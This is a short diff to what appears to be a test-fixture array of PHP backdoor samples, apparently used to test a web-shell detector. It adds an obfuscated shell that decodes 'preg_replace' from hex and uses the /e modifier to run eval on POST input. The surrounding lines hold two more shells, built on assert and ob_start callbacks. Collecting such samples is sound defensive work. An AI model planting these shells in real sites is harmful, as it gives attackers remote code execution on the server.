@@ -123,6 +123,10 @@ const backdoors: [string, string][] = [
     `<?php\n$f = substr_replace('aert', 'ss', 1, 0);\narray_map($f, array($_POST['y']));\n`,
   ],
   [
+    "preg_replace's name assigned inside urldecode's argument, /e behind a colon",
+    `<?php\n$___ = urldecode($_ = '%70%72%65%67%5F%72' . $__ = '%65%70%6C%61%63%65');\n$___("::\\x65", "\\x65\\x76\\x61\\x6C\\x28\\x24\\x5F\\x50\\x4F\\x53\\x54\\x5B\\x31\\x5D\\x29", '');\n`,
+  ],
+  [
     "ob_start's callback built from the request in a loop",
     `<?php\n$id = $_GET['id'];\n$s = '';\nforeach (array($id) as $v) { $s .= $v; }\nob_start($s);\necho $_GET['c'];\nob_end_flush();\n`,
   ],
